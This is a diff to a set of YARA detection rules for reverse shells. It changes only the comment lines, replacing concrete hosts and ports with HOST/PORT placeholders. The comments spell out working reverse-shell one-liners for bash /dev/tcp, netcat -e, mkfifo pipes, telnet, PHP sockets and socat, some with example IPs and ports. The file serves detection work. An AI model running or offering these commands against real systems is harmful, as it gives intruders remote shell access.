@@ -37,13 +37,13 @@ rule Yamori_RevShell_Bash_DevTcp : reverse_shell linux
         mitre_attack = "T1059.004"
 
     strings:
-        // bash -i >& /dev/tcp/h/p 0>&1 ; sh -i > /dev/tcp/h/p 0<&1 2>&1 ; bash -l &>/dev/udp/h/p 0>&1
+        // bash -i >& /dev/tcp/HOST/PORT 0>&1 ; sh -i > /dev/tcp/HOST/PORT 0<&1 2>&1
         $redir = /\b(ba|z|k|da)?sh[ \t]+(-[A-Za-z]+[ \t]+){0,3}[0-9]?(>&|&>|>)[ \t]*\/dev\/(tcp|udp)\/[^\/ \t\r\n]{1,255}\/[0-9]{1,5}[ \t]+([0-9]?>&[0-9][ \t]+){0,2}0(>&|<&)[ \t]*1/
-        // exec 5<>/dev/tcp/h/p  (also used by harmless checks; needs one of the two below)
+        // exec FD<>/dev/tcp/HOST/PORT  (also used by harmless checks; needs one of the two below)
         $fd_open = /exec[ \t]+[0-9]{1,3}<>[ \t]*\/dev\/(tcp|udp)\/[^\/ \t\r\n]{1,255}\/[0-9]{1,5}/
-        // ... ; sh <&5 >&5 2>&5
+        // ... ; sh <&FD >&FD 2>&FD
         $fd_shell = /\b(ba|z|k|da)?sh[ \t]+(-[A-Za-z]+[ \t]+){0,2}<&[ \t]*[0-9]{1,3}[ \t]+>&[ \t]*[0-9]{1,3}[ \t]+2>&[ \t]*[0-9]{1,3}/
-        // ... ; cat <&5 | while read line; do $line 2>&5 >&5; done
+        // ... ; cat <&FD | while read line; do $line 2>&FD >&FD; done
         $fd_loop = /while[ \t]+read[ \t]+(-r[ \t]+)?[A-Za-z_][A-Za-z0-9_]*[ \t]*;[ \t]*do[ \t]+\$[A-Za-z_{][A-Za-z0-9_}]*[ \t]+([0-9]?>&[ \t]*[0-9]{1,3}[ \t]*){2}/
 
     condition:
@@ -63,14 +63,14 @@ rule Yamori_RevShell_Netcat_Shell : reverse_shell
         mitre_attack = "T1059.004"
 
     strings:
-        // nc 10.0.0.1 4444 -e /bin/sh
+        // nc HOST PORT -e /bin/sh
         $nc_after = /\b(nc|ncat|netcat|nc\.traditional)(\.exe)?[ \t]+(-[A-Za-z]+[ \t]+){0,4}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]+-[ec][ \t]*['"]?(\/usr)?(\/bin\/)?((ba|z|da)?sh|cmd(\.exe)?|powershell(\.exe)?)\b/ nocase
-        // nc -e /bin/sh 10.0.0.1 4444
+        // nc -e /bin/sh HOST PORT
         $nc_before = /\b(nc|ncat|netcat|nc\.traditional)(\.exe)?[ \t]+(-[A-Za-z]+[ \t]+){0,3}-[ec][ \t]*['"]?(\/usr)?(\/bin\/)?((ba|z|da)?sh|cmd(\.exe)?|powershell(\.exe)?)['"]?[ \t]+(-[A-Za-z]+[ \t]+){0,3}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}\b/ nocase
-        // mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
+        // mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc HOST PORT > /tmp/f
         // (outgoing connection only: option letters exclude -l, so listening examples do not match)
         $fifo = /mkfifo[ \t]+[^ \t;|&\r\n]{1,200}[ \t]*(;|&&|\n)[^\n]{0,200}\|[ \t]*(\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i[ \t]+2>&1[ \t]*\|[ \t]*(nc|ncat|netcat|telnet)[ \t]+(-[A-Za-km-z0-9]+[ \t]+){0,3}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]*(1?>)/
-        // telnet h p1 | /bin/sh | telnet h p2
+        // telnet HOST PORT1 | /bin/sh | telnet HOST PORT2
         $telnet = /telnet[ \t]+[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]*\|[ \t]*(\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]*\|[ \t]*telnet[ \t]+[A-Za-z0-9]/
 
     condition:
@@ -144,9 +144,9 @@ rule Yamori_RevShell_PHP_Socket : reverse_shell php
 
     strings:
         $fsock = /\b(fsockopen|stream_socket_client)[ \t]*\(/
-        // exec("/bin/sh -i <&3 >&3 2>&3")
+        // exec of "/bin/sh -i <&FD >&FD 2>&FD"
         $fd_shell = /\b(exec|shell_exec|system|passthru|popen)[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i[ \t]*<&[ \t]*[0-9]+[ \t]*>&[ \t]*[0-9]+[ \t]*2>&[ \t]*[0-9]+/
-        // proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes)
+        // proc_open of a shell with descriptors 0, 1 and 2 all set to the socket variable
         $po_sock = /proc_open[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh([ \t]+-i)?['"][ \t]*,[ \t]*(array[ \t]*\(|\[)[ \t]*0[ \t]*=>[ \t]*\$[A-Za-z_][A-Za-z0-9_]*[ \t]*,[ \t]*1[ \t]*=>[ \t]*\$[A-Za-z_][A-Za-z0-9_]*/
         // proc_open of an interactive shell, pumped with stream_select
         $po = /proc_open[ \t]*\(/
@@ -193,9 +193,9 @@ rule Yamori_RevShell_Socat_Exec : reverse_shell linux
         mitre_attack = "T1059.004"
 
     strings:
-        // socat tcp-connect:h:p exec:'bash -li',pty,stderr,setsid
+        // socat tcp-connect:HOST:PORT exec:'bash -li',pty,stderr,setsid
         $conn_first = /socat[ \t]+(-[^ \t\r\n]+[ \t]+){0,4}['"]?(tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?|udp[46]?-connect):[A-Za-z0-9.\-\[\]:]{1,255}:[0-9]{1,5}[^ \t\r\n]*[ \t]+['"]?(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b/ nocase
-        // socat exec:/bin/sh,pty tcp:h:p
+        // socat exec:/bin/sh,pty tcp:HOST:PORT
         $exec_first = /socat[ \t]+(-[^ \t\r\n]+[ \t]+){0,4}['"]?(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b[^ \t\r\n]*[ \t]+['"]?(tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?|udp[46]?-connect):[A-Za-z0-9.\-\[\]:]{1,255}:[0-9]{1,5}/ nocase
 
     condition:
